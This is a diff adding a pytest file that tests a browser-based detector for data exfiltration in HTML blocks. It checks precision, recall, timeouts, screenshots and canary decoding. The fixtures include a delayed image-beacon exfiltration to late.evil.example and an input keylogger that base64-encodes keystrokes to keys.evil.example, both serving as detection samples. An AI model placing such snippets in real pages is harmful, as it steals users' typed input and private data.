@@ -1,0 +1,141 @@
+"""The in-browser layer of `review` in real engines.
+
+One run of the layer for the whole module (every selected engine at once, pages in
+parallel, as `review` runs it): the corpus blocks that carry per-engine ``browser``
+expectations (fixtures/review/) followed by a few blocks of this file. The tests read that run:
+precision and recall per engine, a benign block gives no high finding, an image and an
+on-click exfiltration are confirmed with path and host, a delayed one within the settle
+window too, a busy loop hits the time limit while the blocks after it still run,
+screenshots in light and dark. Plus the canary decoding, which needs no browser.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import urllib.parse
+
+import pytest
+
+from sandbox.engines import ENGINE_NAMES, find_engines
+from sandbox.review.browser import run_browser_layer
+from sandbox.review.browser.canaries import Canaries
+from sandbox.review.corpus import Score, load_corpus, score
+from sandbox.review.model import BlockInput
+
+#: The corpus blocks with per-engine browser expectations (fixtures/review/*.json, "browser").
+#: The module's one run reviews about 13 blocks in three engines; on a loaded 2-core machine that
+# takes minutes, and pytest-timeout counts it in the first test.
+pytestmark = pytest.mark.timeout(1500)
+
+CASES = [c for c in load_corpus() if any(e in c.expected for e in ENGINE_NAMES)]
+
+#: Blocks of this file, run after the corpus in the same run (file name -> source).
+EXTRA = {
+    "delayed_600ms.html": "<p data-bind=\"order.total\"></p>\n<script>\n  setTimeout(() => {\n"
+                          "    new Image().src = 'https://late.evil.example/d?t=' + flowUi.get('order.total');\n  }, 600);\n</script>\n",
+    "after_busy.html": '<p>still <b data-bind="customer.name"></b></p>\n<img src="https://cdn.example.com/logo.png" alt="">\n',
+    "typed_keylogger.html": "<input id=q>\n<script>\n  document.getElementById('q').addEventListener('input', (e) => {\n"
+                            "    new Image().src = 'https://keys.evil.example/k?v=' + btoa(e.target.value);\n  });\n</script>\n",
+}
+BUSY_THEN = ["busy_then.html", "after_busy.html"]  # a busy loop started by the page, then a plain block
+
+
+@pytest.fixture(scope="module")
+def run(request):
+    names = request.config.getoption("engine") or list(ENGINE_NAMES)
+    installed = [n for n in names if n in {e.name for e in find_engines()}]
+    if not installed:
+        pytest.skip("no engine installed")  # the `engine` fixture fails each case under CI=true
+    blocks = [BlockInput(file=c.name, source=c.source, fields=c.fields, state=c.state) for c in CASES]
+    blocks += [BlockInput(file=name, source=source, fields=["order.total"] if "total" in source else [],
+                          state={"customer": {"name": "Ann"}, "order": {"total": "12.50"}}) for name, source in EXTRA.items()]
+    blocks.insert(len(CASES), BlockInput(file="busy_then.html", source="<script>setTimeout(() => { for (;;) {} }, 50);</script>"))
+    results = run_browser_layer(blocks, installed, time_limit=15)
+    return {r.file: r for r in results}
+
+
+def by_engine(result, engine: str):
+    return [f for f in result.findings if engine in f.engines]
+
+
+def test_precision_and_recall_per_engine(engine, run):
+    total = Score()
+    expected_cases = [c for c in CASES if engine.name in c.expected]
+    assert len(expected_cases) >= 9
+    for case in expected_cases:
+        total.add(score(case.name, by_engine(run[case.name], engine.name), case.expected[engine.name]))
+    assert total.recall == 1.0, "\n".join(total.misses)
+    assert total.precision == 1.0, "\n".join(total.extras)
+
+
+def test_benign_blocks_give_no_high_finding(engine, run):
+    benign = [c.name for c in CASES if c.name.startswith("benign") or c.name == "starter"]
+    assert len(benign) >= 4
+    high = [(n, f.rule, f.message) for n in benign for f in by_engine(run[n], engine.name) if f.severity == "high"]
+    assert not high
+
+
+def test_image_exfiltration_is_confirmed_with_path_and_host(engine, run):
+    found = [f for f in by_engine(run["exfil_image"], engine.name) if f.rule == "exfil.state-to-url"]
+    assert [(f.paths, f.hosts) for f in found] == [(["order.total"], ["collect.evil.example"])]
+    assert found[0].evidence["confirmed"] is True
+    source = next(c.source for c in CASES if c.name == "exfil_image").splitlines()
+    line = next(i for i, text in enumerate(source, 1) if "https://collect" in text)
+    assert (found[0].line, found[0].column) == (line, source[line - 1].index("https://collect") + 1)  # the URL in the source
+
+
+def test_on_click_exfiltration_is_found_by_clicking(engine, run):
+    found = [f for f in by_engine(run["exfil_on_click_handler"], engine.name) if f.rule == "exfil.state-to-url"]
+    assert [(f.paths, f.hosts) for f in found] == [(["order.total"], ["click.evil.example"])]
+
+
+def test_delayed_exfiltration_within_the_settle_window(engine, run):
+    found = [f for f in by_engine(run["delayed_600ms.html"], engine.name) if f.rule == "exfil.state-to-url"]
+    assert [(f.paths, f.hosts) for f in found] == [(["order.total"], ["late.evil.example"])]
+
+
+def test_typed_text_is_followed_through_base64(engine, run):
+    found = [f for f in by_engine(run["typed_keylogger.html"], engine.name) if f.rule == "exfil.input-to-url"]
+    assert found and found[0].hosts == ["keys.evil.example"] and found[0].evidence["encoding"] == "base64"
+
+
+def test_a_busy_loop_hits_the_time_limit_and_the_run_goes_on(engine, run):
+    busy = run["busy_then.html"]
+    assert engine.name in busy.timed_out
+    assert [f.rule for f in by_engine(busy, engine.name)] == ["browser.timeout"]
+    after = run["after_busy.html"]
+    assert engine.name not in after.timed_out and not [e for e in after.errors if e["engine"] == engine.name]
+    assert engine.name in after.screenshots
+
+
+def test_screenshots_in_light_and_dark(engine, run):
+    shots = run["benign_theme"].screenshots[engine.name]
+    light, dark = (base64.b64decode(shots[k]) for k in ("light", "dark"))
+    assert light.startswith(b"\x89PNG") and dark.startswith(b"\x89PNG")
+    assert light != dark
+
+
+def test_bridge_traffic_is_recorded(engine, run):
+    bridge = [b for b in run["benign_form"].bridge if b["engine"] == engine.name]
+    assert {b["type"] for b in bridge} == {"send", "setValue"}
+    send = next(b for b in bridge if b["type"] == "send")
+    assert send["action"] == "subscribe" and send["payload"] == {"agree": "boolean"}
+
+
+# ------------------------------------------------------------------------ no browser needed
+
+
+def test_canaries_keep_types_and_are_found_after_encoding():
+    canaries = Canaries()
+    state = canaries.state({"customer": {"name": "Ann", "age": 41, "vip": True}, "items": [{"price": 2.5}]},
+                           ["customer", "items", "order.total"])
+    assert isinstance(state["customer"]["age"], int) and state["customer"]["vip"] is True
+    assert isinstance(state["items"][0]["price"], float) and isinstance(state["order"]["total"], str)
+    encoded = base64.urlsafe_b64encode(json.dumps(state).encode()).decode()
+    found = canaries.find("https://x.example/?d=" + urllib.parse.quote(encoded))
+    assert set(found) == {"customer.name", "customer.age", "items.0.price", "order.total"}
+    assert set(found.values()) == {"base64"}
+    assert canaries.find(f"https://x.example/{state['customer']['name']}.gif") == {"customer.name": "as sent"}
+    # A number is recognised only as a whole run of digits.
+    assert canaries.find(f"https://x.example/?n=1{state['customer']['age']}") == {}
